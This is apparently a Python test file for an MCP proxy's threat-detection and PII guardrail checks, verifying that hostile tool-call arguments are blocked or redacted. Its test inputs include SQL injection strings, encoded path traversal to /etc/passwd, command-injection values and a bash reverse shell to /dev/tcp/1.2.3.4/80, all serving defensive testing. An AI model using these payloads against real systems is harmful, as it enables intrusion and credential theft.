"""
Tests for the threat, custom-rule and PII inspection steps.
"""

from __future__ import annotations

import functools
import json
from typing import Any, Callable

import attrs
from twisted.internet.defer import CancelledError, Deferred
from twisted.trial.unittest import SynchronousTestCase

from akto_proxy.config.loader import parseConfig
from akto_proxy.inspect.chain import Chain, Verdict
from akto_proxy.inspect.checks import PatternInspector, PatternRule, buildInspectors
from akto_proxy.inspect.checks.offload import Offload
from akto_proxy.inspect.message import Message
from akto_proxy.relay.url import Target

from twisted.internet.task import Clock

TARGET = Target("https", "db.internal", 443, b"/mcp")


def config(text: str) -> Any:
    return parseConfig('listen: ["tcp:0"]\n' + text)


@functools.cache
def mediumSteps() -> list[Any]:
    """
    The threat checks at medium, built once per test process: the classes
    that judge many values share them (their databases are read-only).
    """
    return buildInspectors(config("threat_detection:\n  sensitivity: medium\n"))


def call(tool: str, **arguments: str) -> Message:
    return Message.fromJSONRPC(
        {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": tool, "arguments": arguments}},
        "request",
        TARGET,
        "http",
    )


def result(text: str, tool: str = "read_file") -> Message:
    m = Message.fromJSONRPC(
        {"jsonrpc": "2.0", "id": 1, "result": {"content": [{"type": "text", "text": text}]}},
        "response",
        TARGET,
        "sse",
        method="tools/call",
    )
    return attrs.evolve(m, tool=tool)


def verdict(steps: list[Any], message: Message) -> Verdict:
    v = steps[0].inspect(message)
    assert isinstance(v, Verdict)
    return v


def rules(v: Verdict) -> set[str]:
    return {f"{f.check}.{f.rule}" for f in v.findings}


class ThreatTests(SynchronousTestCase):
    def setUp(self) -> None:
        self.steps = buildInspectors(config("threat_detection:\n  sensitivity: medium\n"))

    def test_sqlInjection(self) -> None:
        v = verdict(self.steps, call("search", q="1' OR '1'='1"))
        self.assertTrue(v.block)
        self.assertIn("sql_injection.tautology", rules(v))
        f = next(f for f in v.findings if f.rule == "tautology")
        self.assertEqual((f.location, f.severity, f.action, f.enforced), ("params.arguments.q", "high", "block", True))

    def test_encodedInjections(self) -> None:
        self.assertTrue(verdict(self.steps, call("s", q="%2527%2520OR%25201%253D1--")).block)
        self.assertTrue(verdict(self.steps, call("s", q="1/**/union/**/select/**/password,null from users")).block)
        self.assertTrue(verdict(self.steps, call("p", host="x;c''at$IFS/etc/passwd")).block)
        self.assertTrue(verdict(self.steps, call("r", path="%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd")).block)

    def test_benign(self) -> None:
        for tool, text in (
            ("run_sql", "SELECT * FROM orders WHERE status = 'open' LIMIT 10"),
            ("run_command", "git diff --stat && npm test | tail -20"),
            ("read_file", "../README.md"),
            ("chat", "Please reset my password; my social security card is lost."),
            ("note", "d41d8cd98f00b204e9800998ecf8427e 550e8400-e29b-41d4-a716-446655440000"),
            ("note", "4111 1111 1111 1112"),
        ):
            self.assertEqual(verdict(self.steps, call(tool, text=text)).findings, (), text)

    def test_commandAndPath(self) -> None:
        self.assertIn("command_injection.chained_command", rules(verdict(self.steps, call("ping", host="127.0.0.1; id"))))
        self.assertIn("command_injection.reverse_shell", rules(verdict(self.steps, call("x", a="bash -i >& /dev/tcp/1.2.3.4/80 0>&1"))))
        self.assertIn("path_traversal.nul_byte", rules(verdict(self.steps, call("r", path="../../../../etc/passwd%00.png"))))
        self.assertIn("path_traversal.root_escape", rules(verdict(self.steps, call("r", path="a/../../../../srv/x"))))

    def test_exfiltration(self) -> None:
        v = verdict(self.steps, call("send", text="key AKIAZ3MHS4KQVX7PLR2N and card 4111-1111-1111-1111"))
        self.assertEqual(rules(v), {"data_exfiltration.aws_access_key", "data_exfiltration.credit_card"})
        self.assertEqual(v.findings[0].severity, "critical")
        self.assertEqual(verdict(self.steps, call("send", text="AKIAIOSFODNN7EXAMPLE")).findings, ())

    def test_bulk(self) -> None:
        rows = "\n".join(f"u{i}@corp{i}.example.com" for i in range(30))
        self.assertIn("data_exfiltration.bulk_records", rules(verdict(self.steps, call("post", body=rows))))
        self.assertNotIn("data_exfiltration.bulk_records", rules(verdict(self.steps, result(rows))))

    def test_injectionNotInResponses(self) -> None:
        self.assertEqual(verdict(self.steps, result("x'; DROP TABLE users; -- and ; cat /etc/passwd")).findings, ())
        self.assertTrue(verdict(self.steps, result("-----BEGIN RSA PRIVATE KEY-----\nMIIE")).block)

    def test_url(self) -> None:
        m = Message.fromText("/api?file=..%2f..%2f..%2fetc%2fpasswd", "request", TARGET, "url")
        v = verdict(self.steps, m)
        self.assertTrue(v.block)
        self.assertEqual(v.findings[0].location, "url")


class SettingsTests(SynchronousTestCase):
    def test_offChecksNotBuilt(self) -> None:
        steps = buildInspectors(config("threat_detection:\n  enabled_checks: [path_traversal]\n"))
        self.assertEqual(verdict(steps, call("s", q="1' OR '1'='1")).findings, ())
        self.assertTrue(verdict(steps, call("r", p="../../../../etc/passwd")).block)

    def test_sensitivity(self) -> None:
        low = buildInspectors(config("threat_detection:\n  sensitivity: low\n"))
        high = buildInspectors(config("threat_detection:\n  sensitivity: high\n"))
        jwt = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6y"
        self.assertEqual(verdict(low, call("s", t=jwt)).findings, ())
        self.assertTrue(verdict(high, call("s", t=jwt)).block)
        self.assertEqual(verdict(low, call("s", t="a@b.example.com")).findings, ())
        self.assertTrue(verdict(high, call("s", t="a@b.example.com")).findings)

    def test_monitor(self) -> None:
        steps = buildInspectors(config("threat_detection:\n  checks:\n    sql_injection: {mode: monitor}\n"))
        v = verdict(steps, call("s", q="1' OR '1'='1"))
        self.assertFalse(v.block)
        self.assertTrue(v.findings)
        self.assertFalse(any(f.enforced for f in v.findings))
        self.assertTrue(verdict(steps, call("s", q="; cat /etc/passwd")).block)

    def test_redact(self) -> None:
        steps = buildInspectors(config("threat_detection:\n  checks:\n    data_exfiltration: {action: redact}\n"))
        v = verdict(steps, result("card 4111 1111 1111 1111 ok"))
        self.assertFalse(v.block)
        self.assertEqual(v.replacements, (("result.content[0].text", "card [REDACTED:credit_card] ok"),))

    def test_exclusions(self) -> None:
        steps = buildInspectors(
            config(
                "threat_detection:\n  exclusions:\n"
                "    - {upstream: 'db.*', tool: run_sql, argument: query, checks: [sql_injection]}\n"
                "    - {tool: shell}\n"
            )
        )
        attack = "x' UNION SELECT password, null FROM users--"
        self.assertEqual(verdict(steps, call("run_sql", query=attack)).findings, ())
        self.assertTrue(verdict(steps, call("run_sql", query="1", note=attack)).block)
        self.assertTrue(verdict(steps, call("echo", text=attack)).block)
        self.assertEqual(verdict(steps, call("shell", cmd="; cat /etc/passwd")).findings, ())
        self.assertEqual(verdict(steps, result("-----BEGIN RSA PRIVATE KEY-----", tool="shell")).findings, ())
        other = attrs.evolve(call("run_sql", query=attack), target=Target("https", "other.example", 443))
        self.assertTrue(verdict(steps, other).block)

    def test_onErrorPass(self) -> None:
        steps = buildInspectors(config("threat_detection:\n  checks:\n    sql_injection: {on_error: pass}\n"))
        self.assertEqual(steps[0].on_error, "block")
        steps = buildInspectors(
            config(
                "threat_detection:\n  enabled_checks: [sql_injection]\n  checks:\n    sql_injection: {on_error: pass}\n"
            )
        )
        self.assertEqual(steps[0].on_error, "pass")


class GuardrailTests(SynchronousTestCase):
    def test_piiMasksKeepingJSON(self) -> None:
        steps = buildInspectors(
            config(
                "threat_detection:\n  enabled_checks: [path_traversal]\n"
                "guardrails:\n  - name: PII Protection\n    type: pii\n    rules:\n"
                "      - {entity: email}\n      - {entity: ssn}\n      - {entity: phone}\n      - {entity: credit_card, action: block}\n"
            )
        )
        pii = next(s for s in steps if s.name == "PII Protection")
        text = 'name "Ann", mail ann@example.com, ssn 536-22-1456, call +1 415 555 2671'
        chain = Chain(steps, Clock())
        outcome = chain.inspect(result(text))
        out = self.successResultOf(outcome)
        self.assertFalse(out.blocked)
        self.assertEqual(out.guardrails, ("PII Protection",))
        masked = out.message.payload["result"]["content"][0]["text"]
        self.assertEqual(
            masked, 'name "Ann", mail [REDACTED:email], ssn [REDACTED:ssn], call [REDACTED:phone]'
        )
        json.loads(json.dumps(out.message.payload))
        self.assertTrue(pii.inspect(result("pay 4111 1111 1111 1111")).block)
        self.assertEqual(pii.inspect(call("send", to="ann@example.com")).findings, ())

    def test_contentFilterAndCustomRules(self) -> None:
        steps = buildInspectors(
            config(
                "threat_detection:\n  enabled_checks: [path_traversal]\n  custom_rules:\n"
                "    - {name: Sensitive Files, pattern: '/etc/passwd|/etc/shadow', action: block}\n"
                "guardrails:\n  - name: CC\n    type: content_filter\n    rules:\n"
                "      - {pattern: 'credit card|cc number', action: redact}\n"
            )
        )
        custom, cc = steps[1], steps[2]
        self.assertTrue(custom.inspect(call("t", a="cat /ETC/PASSWD")).block)
        v = cc.inspect(result("my Credit Card and CC NUMBER"))
        self.assertEqual(v.replacements, (("result.content[0].text", "my [REDACTED:CC#1] and [REDACTED:CC#1]"),))
        self.assertEqual(v.guardrails, ("CC",))

    def test_patternInspectorImportable(self) -> None:
        p = PatternInspector("x", [PatternRule("r", "a+b", "log")])
        self.assertEqual([f.action for f in p.inspect(call("t", a="AAB")).findings], ["log"])


class FakePool:
    def callInThreadWithCallback(self, onResult: Callable[..., None], f: Callable[..., Any], *a: Any) -> None:
        onResult(True, f(*a))


class FakeReactor:
    def __init__(self) -> None:
        self.pool = FakePool()
        self.threaded = 0

    def getThreadPool(self) -> FakePool:
        self.threaded += 1
        return self.pool

    def callFromThread(self, f: Callable[..., Any], *a: Any) -> None:
        f(*a)


class OffloadTests(SynchronousTestCase):
    def test_largeMessagesOffReactor(self) -> None:
        reactor = FakeReactor()
        steps = buildInspectors(config("threat_detection:\n  sensitivity: medium\n"), reactor=reactor)
        small = steps[0].inspect(call("s", q="1' OR '1'='1"))
        self.assertIsInstance(small, Verdict)
        self.assertEqual(reactor.threaded, 0)
        big = steps[0].inspect(result("x" * 200_000 + " AKIAZ3MHS4KQVX7PLR2N"))
        self.assertNotIsInstance(big, Verdict)
        self.assertEqual(reactor.threaded, 1)
        self.assertTrue(self.successResultOf(big).block)

    def test_ownPool(self) -> None:
        """
        Given a pool of its own, a check sends large messages there, not to
        the reactor's pool (which resolves upstream names).
        """
        reactor = FakeReactor()
        pool = QueuePool()
        steps = buildInspectors(config("threat_detection:\n  sensitivity: medium\n"), reactor=reactor, threads=pool)
        big = steps[0].inspect(result("x" * 200_000 + " AKIAZ3MHS4KQVX7PLR2N"))
        self.assertEqual((reactor.threaded, len(pool.jobs)), (0, 1))
        self.assertNoResult(big)
        pool.runAll()
        self.assertTrue(self.successResultOf(big).block)

    def test_abandonedBeforeStart(self) -> None:
        """
        A message whose Deferred is cancelled (the chain's timeout) while it
        waits for a thread is not inspected when a thread frees up.
        """
        pool = QueuePool()
        calls: list[str] = []
        d = Offload(FakeReactor(), pool).run(result("x" * 100_000), calls.append, "ran")
        assert isinstance(d, Deferred)
        d.cancel()
        self.failureResultOf(d, CancelledError)
        pool.runAll()
        self.assertEqual(calls, [])

    def test_lateAnswerIgnored(self) -> None:
        """
        A message whose inspection had started when the chain gave up on it
        ends quietly: its late answer is dropped, not an AlreadyCalledError.
        """
        pool = QueuePool()
        d = Offload(FakeReactor(), pool).run(result("x" * 100_000), lambda: "verdict")
        assert isinstance(d, Deferred)
        onResult, job = pool.jobs.pop()
        answer = job()  # a thread took it up...
        d.cancel()  # ...then the deadline passed
        onResult(True, answer)
        self.failureResultOf(d, CancelledError)

    def test_stoppedPoolInline(self) -> None:
        """
        After the pool is stopped (shutdown), large messages are inspected
        inline: a stopped Twisted pool would drop the work and hang them.
        """
        pool = QueuePool()
        pool.joined = True
        out = Offload(FakeReactor(), pool).run(result("x" * 100_000), lambda: "verdict")
        self.assertEqual((out, pool.jobs), ("verdict", []))


class QueuePool:
    """
    A pool whose threads run only when the test says so.
    """

    def __init__(self) -> None:
        self.jobs: list[tuple[Callable[..., None], Callable[[], Any]]] = []
        self.joined = False

    def callInThreadWithCallback(self, onResult: Callable[..., None], f: Callable[..., Any], *a: Any) -> None:
        self.jobs.append((onResult, lambda: f(*a)))

    def runAll(self) -> None:
        while self.jobs:
            onResult, job = self.jobs.pop(0)
            onResult(True, job())
